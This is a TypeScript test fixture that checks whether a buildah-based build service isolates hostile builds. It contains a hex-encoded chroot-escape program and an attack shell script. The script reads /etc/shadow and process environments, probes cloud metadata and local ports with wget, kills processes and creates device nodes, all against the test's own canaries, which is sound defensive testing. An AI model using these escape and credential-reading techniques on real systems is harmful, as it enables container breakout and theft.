import type { ChildProcess } from 'node:child_process';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { chmod, copyFile, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import type { Server } from 'node:http';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, vi } from 'vitest';
import { buildahRunner } from '../../shared/adapters/buildah/runner.ts';
import { amd64, smallProgram } from '../../shared/adapters/buildah/small-program.ts';
import type { Sandboxed } from '../../shared/adapters/buildah/workplace.ts';
import type { BuildJob } from '../../shared/core/ports/runner.ts';
import type { RunningStack } from '../local/stack/running-stack.ts';
import { startRunningStack, stateFolder } from '../local/stack/running-stack.ts';
import { sandboxed, storesOf } from './builder.ts';
import { command } from './command.ts';

/** Nothing of a build may ever show these. */
export const secrets = {
  file: 'canary-of-a-file',
  port: 'canary-of-a-port',
  login: 'canary-of-a-login',
  environment: 'canary-of-an-environment',
  secret: 'canary-of-another-job',
};

/**
 * A static program that leaves a `chroot`: it calls `mkdir`, `chroot` into that folder with the working directory
 * outside, `chdir("..")` up to the top, and `chroot(".")`; then it runs its arguments there.
 */
const leave = smallProgram(
  amd64,
  Buffer.from(
    [
      '488b1c244c8d6424104c8d6cdc084983c508488d3d5c000000beed010000b8530000000f05488d3d49000000b8a10000000f',
      '05bd40000000488d3d3d000000b8500000000f05ffcd75ee488d3d2e000000b8a10000000f05498b3c244c89e64c89eab83b',
      '0000000f05bf61000000b83c0000000f052f746d702d78002e2e002e00',
    ].join(''),
    'hex',
  ),
);

/** Makes a thousand folders in each other, so that the path of the last has 21,000 characters, and waits. */
export const deep = smallProgram(
  amd64,
  Buffer.from(
    [
      'bde8030000488d3d25000000bec0010000b8530000000f05488d3d12000000b8500000000f05ffcd75dbb8220000000f0561',
      '6161616161616161616161616161616161616100',
    ].join(''),
    'hex',
  ),
);

export let work: Awaited<ReturnType<typeof stateFolder>>;
export let stack: RunningStack;
export let host: string;
let neighbour: ChildProcess;
let port: Server & { hits?: string[] };
export let canary: string;
let login: string;
/** The origins to which the stack redirects clients for blobs. */
export let stores: string[];

beforeAll(async () => {
  work = await stateFolder();
  await chmod(work.path, 0o755);
  stack = await startRunningStack(join(work.path, 'state'));
  ({ host } = new URL(stack.url));
  canary = join(work.path, 'canary');
  await writeFile(canary, secrets.file, { mode: 0o644 });
  login = join(work.path, 'auth.json');
  await writeFile(
    login,
    JSON.stringify({
      auths: { 'registry.invalid': { auth: Buffer.from(`user:${secrets.login}`).toString('base64') } },
    }),
    { mode: 0o600 },
  );
  vi.stubEnv('REGISTRY_AUTH_FILE', login);
  vi.stubEnv('LONGSHORE_CANARY', secrets.environment);
  neighbour = spawn('sleep', ['4242'], { stdio: 'ignore' });
  const hits: string[] = [];
  port = Object.assign(
    createServer((request, response) => {
      hits.push(request.url ?? '');
      response.end(secrets.port);
    }),
    { hits },
  );
  port.listen(0, '0.0.0.0');
  await once(port, 'listening');
  await hostileBase();
  stores = await storesOf(stack.url, 'team/base');
}, 300_000);

afterAll(async () => {
  vi.unstubAllEnvs();
  neighbour.kill();
  port.close();
  expect(await stack.stop()).toBe(0);
  await work.remove();
});

export const canaryPort = () => (port.address() as AddressInfo).port;
export const storage = () => [
  '--storage-driver',
  'vfs',
  '--root',
  join(work.path, 'storage'),
  '--runroot',
  join(work.path, 'run'),
];

/** Returns the commands that a step runs after it has left its `chroot`. */
const outside = () => {
  const keys = join(work.path, 'state', 'keys.json');
  const files = [canary, keys, login, '/login/auth.json', '/etc/shadow', '/proc/*/environ'];
  return `cat ${files.join(' ')}; id > ${join(work.path, 'owned')}; ls -la /`;
};

/**
 * Everything that is tried with what a step has: files, processes, ports and keys of the machine. Only this test's own
 * are aimed at: where a build is not kept apart, the attack succeeds, and a signal to all would end every process of
 * the machine.
 */
const attack = () => `#!/bin/busybox sh
B=/bin/busybox
# Where it could not leave, what it starts is itself.
[ -n "$AGAIN" ] && exit 0
export AGAIN=1
say() { echo "TRIED $1: $($B cat 2>&1 | $B head -c 2000)"; }
echo "ATTACK BEGINS"
$B cat ${canary} 2>&1 | say file
$B cat ${join(work.path, 'state', 'keys.json')} 2>&1 | say keys
/bin/leave /bin/sh -c '${outside()}' 2>&1 | say leave
/bin/leave /bin/busybox cat ${canary} 2>&1 | say leave-busybox
for p in /proc/[0-9]*; do $B cat $p/root${canary} $p/root/login/auth.json $p/environ; done 2>&1 | say proc
$B ps 2>&1 | say processes
$B kill -9 ${neighbour.pid} 2>&1 | say kill
$B ip addr 2>&1 | say network
for at in 127.0.0.1 ${addresses().join(' ')} 10.0.2.2 169.254.169.254; do
  $B timeout 3 $B wget -q -O - http://$at:${canaryPort()}/
done 2>&1 | say port
$B timeout 3 $B wget -q -O - http://${host}/v2/_catalog 2>&1 | say registry
$B timeout 3 $B wget -q -O - http://169.254.169.254/metadata/instance 2>&1 | say metadata
https_proxy= http_proxy=http://127.0.0.1:3128 $B timeout 3 $B wget -q -O - http://127.0.0.1:${canaryPort()}/ 2>&1 | say proxy
$B env 2>&1 | say environment
$B mknod /vda b 254 0 2>&1 | say mknod
$B dd if=/dev/planted bs=512 count=1 2>&1 | say device
$B mount -t proc proc /proc 2>&1 | say mount
$B dmesg 2>&1 | $B head -3 | say dmesg
$B grep -E 'Cap|NoNewPrivs|Seccomp:' /proc/self/status | say rights
$B cat /proc/self/uid_map | say ids
echo "ATTACK ENDS"
exit 0
`;

export function addresses(): string[] {
  return Object.values(networkInterfaces())
    .flatMap((each) => each ?? [])
    .filter(({ internal, family }) => !internal && family === 'IPv4')
    .map(({ address }) => address);
}

export async function contextOf(
  name: string,
  dockerfile: string,
  files: Readonly<Record<string, string | Buffer>> = {},
): Promise<string> {
  const context = join(work.path, `context-${name}`);
  await mkdir(context, { recursive: true });
  await copyFile('/bin/busybox', join(context, 'busybox'));
  for (const [file, bytes] of Object.entries(files)) await writeFile(join(context, file), bytes, { mode: 0o755 });
  await writeFile(join(context, 'Dockerfile'), dockerfile);
  return context;
}

/** Pushes a base whose `/bin/sh` is the attack, as a user who may only push. */
async function hostileBase(): Promise<void> {
  const dockerfile =
    'FROM scratch\nCOPY busybox /bin/busybox\nCOPY leave /bin/leave\nCOPY attack /bin/sh\nCOPY attack ' +
    '/attack\nCOPY planted.tar /planted.tar\n';
  const context = await contextOf('base', dockerfile, { leave, attack: attack(), 'planted.tar': '' });
  await command('mknod', [join(context, 'planted'), 'b', '254', '0']);
  await command('tar', [
    '-cf',
    join(context, 'planted.tar'),
    '--transform',
    's,planted,dev/planted,',
    '-C',
    context,
    'planted',
  ]);
  await command('rm', [join(context, 'planted')]);
  await writeFile(
    join(context, 'Dockerfile'),
    dockerfile.replace('COPY planted.tar /planted.tar', 'ADD planted.tar /'),
  );
  await command('buildah', [
    ...storage(),
    'bud',
    '--isolation',
    'chroot',
    '--format',
    'oci',
    '-t',
    'localhost/hostile',
    context,
  ]);
  await command('buildah', [
    ...storage(),
    'push',
    '--tls-verify=false',
    'localhost/hostile',
    `docker://${host}/team/base:1`,
  ]);
}

export async function jobOf(
  name: string,
  dockerfile: string,
  more: Partial<BuildJob> = {},
  files: Readonly<Record<string, string | Buffer>> = {},
): Promise<BuildJob> {
  const [tar, context] = [join(work.path, `${name}.tar`), await contextOf(name, dockerfile, files)];
  await command('tar', ['-cf', tar, '-C', context, '.']);
  return {
    id: name,
    context: new Blob([await readFile(tar)]).stream(),
    annotations: {},
    secrets: {},
    dockerfile: 'Dockerfile',
    pins: {},
    arguments: {},
    platform: 'linux/amd64',
    plainHosts: [host],
    ownHosts: [host],
    timeoutMs: 60_000,
    ...more,
  };
}

export async function built(
  job: BuildJob,
  how: Sandboxed = sandboxed(),
): Promise<{ log: string; outcome: Awaited<ReturnType<ReturnType<typeof buildahRunner>['build']>> }> {
  let log = '';
  const outcome = await buildahRunner({ ...how, stores }).build(
    job,
    (text) => {
      log += text;
    },
    new AbortController().signal,
  );
  if (process.env.SHOW_BUILDS !== undefined) console.log(`${job.id}: ${log}`);
  return { log, outcome };
}

export function tried(log: string, what: string): string {
  return new RegExp(`^TRIED ${what}: ([^]*?)(?=^TRIED |^ATTACK )`, 'm').exec(log)?.[1] ?? 'not tried';
}

/** Asserts what must be true of any log, whatever was tried. */
function nothingReached(log: string): void {
  for (const secret of Object.values(secrets)) expect(log).not.toContain(secret);
  const keys = JSON.parse(readFileSync(join(work.path, 'state', 'keys.json'), 'utf8')) as Record<string, unknown>;
  for (const key of Object.values(keys).flat()) expect(log).not.toContain(String(key));
  expect(port.hits).toEqual([]);
  expect(neighbour.exitCode ?? neighbour.signalCode).toBeNull();
}

export const unreached = async (log: string) => {
  nothingReached(log);
  expect(await readdir(work.path)).not.toContain('owned');
};
